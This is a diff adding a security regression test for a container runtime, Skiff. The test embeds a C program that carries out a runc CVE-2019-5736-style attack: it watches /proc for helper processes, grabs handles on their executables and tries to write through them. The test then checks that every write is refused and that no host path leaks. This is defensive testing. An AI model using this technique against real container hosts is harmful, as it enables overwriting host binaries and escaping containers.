@@ -1,0 +1,276 @@
+// No host helper binary is reachable from a container (runc CVE-2019-5736 class). The attack
+// itself: a process of a pod that shares one PID namespace watches /proc for Skiff's helpers
+// entering it (skiff-init for ExecSync and for container starts, a container whose command is
+// /proc/self/exe, the pod's init), keeps a handle on each one's /proc/<pid>/exe, and writes
+// through the handles once they are free. It runs with CAP_SYS_PTRACE, so a non-dumpable helper
+// does not stop it from taking the handle: what it holds must be a copy it cannot write. Without
+// the capability the pod's init does not even give it the handle.
+import { expect } from 'chai';
+import { createHash } from 'node:crypto';
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { ContainerConfig, ContainerState, PodSandboxConfig, type ContainerStatusResponse, type DeepPartial, type ExecSyncResponse } from '../../src/generated/runtime/v1/api.js';
+import { DEFAULT_HELPER_DIR } from '../../src/runtime/helper-exec.js';
+import { call, TestDaemon } from '../support/daemon.js';
+import { imageSpec } from '../support/grpc.js';
+import { buildImage, busyboxLayer, pushImage, ROOT_CONFIG, tarLayer } from '../support/image-builder.js';
+import { startRegistry, type TestRegistry } from '../support/registry.js';
+
+/**
+ * grab SECONDS: polls /proc; for each new process whose comm or exe names a Skiff helper prints
+ * "seen pid= comm= exe= cmdline=", then "handle pid= exe=" when /proc/<pid>/exe opened on a
+ * helper's image (one handle per file) or "denied pid= errno=" when it did not open; keeps
+ * reopening each handle for writing (O_APPEND: the binary would still run) until that is no
+ * longer ETXTBSY, then prints "write exe= ok" or "write exe= errno=N".
+ */
+const GRAB_C = `
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <time.h>
+#include <unistd.h>
+#define MAX_HANDLES 32
+struct handle { int fd; dev_t dev; ino_t ino; char link[256]; int done; };
+static struct handle handles[MAX_HANDLES];
+static int nhandles;
+static unsigned char seen[4194304 / 8 + 1];
+static size_t slurp(const char *path, char *buf, size_t cap) {
+  int fd = open(path, O_RDONLY | O_CLOEXEC);
+  ssize_t n;
+  if (fd < 0) return 0;
+  n = read(fd, buf, cap - 1);
+  close(fd);
+  if (n < 0) n = 0;
+  buf[n] = 0;
+  return (size_t)n;
+}
+static void look(int pid) {
+  char path[64], comm[64], link[256] = "", cmd[4096];
+  size_t n;
+  int fd, err;
+  struct stat st;
+  snprintf(path, sizeof path, "/proc/%d/comm", pid);
+  slurp(path, comm, sizeof comm);
+  comm[strcspn(comm, "\\n")] = 0;
+  snprintf(path, sizeof path, "/proc/%d/exe", pid);
+  fd = open(path, O_RDONLY | O_CLOEXEC);
+  err = errno;
+  if (fd >= 0) {
+    char self[64];
+    ssize_t l;
+    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+    l = readlink(self, link, sizeof link - 1);
+    link[l > 0 ? l : 0] = 0;
+  }
+  if (strncmp(comm, "skiff-", 6) && !strstr(link, "skiff-")) {
+    if (fd >= 0) close(fd);
+    return;
+  }
+  snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
+  n = slurp(path, cmd, sizeof cmd);
+  for (size_t i = 0; i < n; i++) if (!cmd[i]) cmd[i] = ' ';
+  printf("seen pid=%d comm=%s exe=%s cmdline=%s\\n", pid, comm, fd >= 0 ? link : "-", cmd);
+  if (fd < 0) {
+    printf("denied pid=%d errno=%d\\n", pid, err);
+    return;
+  }
+  /* Only a helper's own image: the process may have exec'd its command since comm was read. */
+  if (!strstr(link, "skiff-") || fstat(fd, &st) < 0 || nhandles == MAX_HANDLES) { close(fd); return; }
+  for (int i = 0; i < nhandles; i++)
+    if (handles[i].dev == st.st_dev && handles[i].ino == st.st_ino) { close(fd); return; }
+  handles[nhandles] = (struct handle){ fd, st.st_dev, st.st_ino, "", 0 };
+  strcpy(handles[nhandles].link, link);
+  nhandles++;
+  printf("handle pid=%d exe=%s\\n", pid, link);
+}
+static void try_writes(void) {
+  static const char mark[] = "\\nskiff-grab-was-here\\n";
+  for (int i = 0; i < nhandles; i++) {
+    struct handle *h = &handles[i];
+    char self[64];
+    int w;
+    if (h->done) continue;
+    snprintf(self, sizeof self, "/proc/self/fd/%d", h->fd);
+    w = open(self, O_WRONLY | O_APPEND | O_CLOEXEC);
+    if (w < 0 && errno == ETXTBSY) continue;
+    if (w < 0) printf("write exe=%s errno=%d\\n", h->link, errno);
+    else if (write(w, mark, sizeof mark - 1) < 0) printf("write exe=%s errno=%d\\n", h->link, errno);
+    else printf("write exe=%s ok\\n", h->link);
+    if (w >= 0) close(w);
+    h->done = 1;
+  }
+}
+int main(int argc, char **argv) {
+  int self = getpid(), procfd;
+  time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 60);
+  static char buf[65536];
+  setvbuf(stdout, NULL, _IOLBF, 0);
+  procfd = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+  if (procfd < 0) { perror("open /proc"); return 1; }
+  printf("ready pid=%d\\n", self);
+  while (time(NULL) < end) {
+    long n;
+    lseek(procfd, 0, SEEK_SET);
+    while ((n = syscall(SYS_getdents64, procfd, buf, sizeof buf)) > 0) {
+      for (long off = 0; off < n;) {
+        unsigned short reclen = *(unsigned short *)(buf + off + 16);
+        const char *name = buf + off + 19;
+        char *e;
+        long pid = strtol(name, &e, 10);
+        off += reclen;
+        if (*e || pid <= 0 || pid > 4194304 || pid == self || (seen[pid / 8] & (1 << (pid % 8)))) continue;
+        seen[pid / 8] |= 1 << (pid % 8);
+        look((int)pid);
+      }
+    }
+    try_writes();
+  }
+  printf("done\\n");
+  return 0;
+}
+`;
+const EPERM = 1;
+const HELPERS = ['skiff-init', 'skiff-monitor', 'skiff-pinns', 'skiff-hostinfo'];
+
+const sha256Of = (path: string) => createHash('sha256').update(readFileSync(path)).digest('hex');
+
+describe('helper images: no host helper binary is reachable from a container', function () {
+  this.timeout(90_000);
+  let reg: TestRegistry;
+  let d: TestDaemon;
+  let buildDir: string;
+  let logDir: string;
+  let podId: string;
+  let podConfig: PodSandboxConfig;
+  let image: string;
+  let seq = 0;
+  /** The helpers' bytes before the test: put back if the attack got through, so later tests run. */
+  const original = new Map<string, Buffer>();
+
+  const logOf = (name: string) => {
+    try {
+      return readFileSync(join(logDir, `${name}.log`), 'utf8')
+        .split('\n')
+        .map((l) => l.split(' ').slice(3).join(' '));
+    } catch {
+      return [];
+    }
+  };
+  const create = async (over: DeepPartial<ContainerConfig>) => {
+    const name = `h${++seq}`;
+    const config = ContainerConfig.fromPartial<DeepPartial<ContainerConfig>>({
+      metadata: { name, attempt: 0 },
+      image: { image },
+      logPath: `${name}.log`,
+      ...over,
+    });
+    const { containerId } = await call<object, { containerId: string }>(d.runtime, 'createContainer', { podSandboxId: podId, config, sandboxConfig: podConfig });
+    await call(d.runtime, 'startContainer', { containerId });
+    return { id: containerId, name };
+  };
+  const exec = (id: string, cmd: string[]) => call<object, ExecSyncResponse>(d.runtime, 'execSync', { containerId: id, cmd, timeout: 10n }, 30_000);
+  const state = async (id: string) =>
+    (await call<object, ContainerStatusResponse>(d.runtime, 'containerStatus', { containerId: id, verbose: false })).status?.state;
+
+  before(async function () {
+    for (const h of HELPERS) original.set(h, readFileSync(join(DEFAULT_HELPER_DIR, h)));
+    buildDir = mkdtempSync(join(tmpdir(), 'skiff-grab-'));
+    writeFileSync(join(buildDir, 'grab.c'), GRAB_C);
+    execFileSync('gcc', ['-static', '-O2', '-o', join(buildDir, 'grab'), join(buildDir, 'grab.c')], { stdio: 'pipe' });
+    reg = await startRegistry();
+    const layers = await Promise.all([
+      busyboxLayer({ gzip: true }),
+      tarLayer(
+        [
+          { path: 'usr/local/bin', type: 'dir' },
+          { path: 'usr/local/bin/grab', type: 'file', content: readFileSync(join(buildDir, 'grab')), mode: 0o755 },
+        ],
+        { gzip: true },
+      ),
+    ]);
+    await pushImage(reg.url, 'skiff-test/grab', '1.0', buildImage({ layers, config: ROOT_CONFIG }));
+    image = `${reg.host}/skiff-test/grab:1.0`;
+    d = await TestDaemon.create(`registry:\n  insecure: ["${reg.host}"]\n`);
+    await d.start();
+    await call(d.images, 'pullImage', { image: imageSpec(image) }, 30_000);
+    logDir = mkdtempSync(join(tmpdir(), 'skiff-grab-logs-'));
+    // No namespaceOptions: the pod's containers share one PID namespace, with the pod's init as pid 1.
+    podConfig = PodSandboxConfig.fromPartial({
+      metadata: { name: 'grab-pod', namespace: 'default', uid: `uid-grab-${process.pid}`, attempt: 0 },
+      logDirectory: logDir,
+    });
+    podId = (await call<object, { podSandboxId: string }>(d.runtime, 'runPodSandbox', { config: podConfig, runtimeHandler: '' })).podSandboxId;
+  });
+
+  after(async function () {
+    // Stopped first, so no monitor writes an exit file while the daemon's dirs are removed.
+    if (podId) {
+      await call(d.runtime, 'stopPodSandbox', { podSandboxId: podId }, 30_000).catch(() => undefined);
+      await call(d.runtime, 'removePodSandbox', { podSandboxId: podId }, 30_000).catch(() => undefined);
+    }
+    await d?.cleanup();
+    await reg?.stop();
+    for (const dir of [logDir, buildDir]) if (dir) rmSync(dir, { recursive: true, force: true });
+    for (const [h, bytes] of original) {
+      const path = join(DEFAULT_HELPER_DIR, h);
+      if (sha256Of(path) === createHash('sha256').update(bytes).digest('hex')) continue;
+      writeFileSync(`${path}.restore`, bytes, { mode: 0o755 });
+      renameSync(`${path}.restore`, path);
+    }
+  });
+
+  it('a process of a shared-PID pod grabs /proc/<pid>/exe of the helpers it sees and cannot write through any', async function () {
+    const before = HELPERS.map((h) => sha256Of(join(DEFAULT_HELPER_DIR, h)));
+    const attacker = await create({
+      command: ['/usr/local/bin/grab', '60'],
+      linux: { securityContext: { capabilities: { addCapabilities: ['SYS_PTRACE'] } } },
+    });
+    const target = await create({ command: ['/bin/sleep', '600'] });
+    const triedInit = (lines: string[]) => lines.some((l) => /^write exe=\S*skiff-init/.test(l));
+    const deadline = Date.now() + 15_000;
+    let rounds = 0;
+    // A few rounds at least, then until it has tried to write skiff-init (or 15 s have passed).
+    while (rounds < 3 || (!triedInit(logOf(attacker.name)) && Date.now() < deadline)) {
+      rounds++;
+      for (let i = 0; i < 5; i++) await exec(target.id, ['/bin/true']);
+      // The container's command is skiff-init itself, reached through the magic link. Its usage
+      // error may come before the monitor sees the exec, and then the start fails: either way it ran.
+      await create({ command: ['/proc/self/exe'] }).catch(() => undefined);
+    }
+    await sleep(50);
+    await call(d.runtime, 'stopContainer', { containerId: attacker.id, timeout: 0n });
+    const lines = logOf(attacker.name);
+    const after = HELPERS.map((h) => sha256Of(join(DEFAULT_HELPER_DIR, h)));
+    const report = `after ${rounds} rounds the attacker printed:\n${lines.join('\n')}`;
+
+    expect(after, report).to.deep.equal(before);
+    // Not vacuous: it held skiff-init's image, and tried to write once no process ran it.
+    const handles = lines.filter((l) => l.startsWith('handle '));
+    expect(handles.some((l) => /exe=\S*skiff-init/.test(l)), report).to.equal(true);
+    const writes = lines.filter((l) => l.startsWith('write '));
+    expect(writes.filter((l) => l.endsWith(' ok')), report).to.deep.equal([]);
+    expect(writes.some((l) => /skiff-init.* errno=(\d+)$/.exec(l)?.[1] === String(EPERM)), report).to.equal(true);
+    // What it saw of them names no host path: neither the helpers' directory nor the daemon's.
+    const seen = lines.filter((l) => l.startsWith('seen '));
+    expect(seen.length, report).to.be.greaterThan(0);
+    for (const l of seen) {
+      for (const host of [DEFAULT_HELPER_DIR, d.root, d.state, '/sys/fs/cgroup', '--bundle']) expect(l, report).to.not.include(host);
+    }
+    expect(await state(target.id)).to.equal(ContainerState.CONTAINER_RUNNING);
+  });
+
+  it("shows the pod's init as skiff-pod-init, with no host path in /proc/1/cmdline", async function () {
+    const { id } = await create({ command: ['/bin/sleep', '600'] });
+    expect((await exec(id, ['/bin/cat', '/proc/1/cmdline'])).stdout.toString()).to.equal('skiff-pod-init\0');
+    expect((await exec(id, ['/bin/cat', '/proc/1/comm'])).stdout.toString()).to.equal('skiff-pod-init\n');
+    await call(d.runtime, 'stopContainer', { containerId: id, timeout: 0n });
+  });
+});
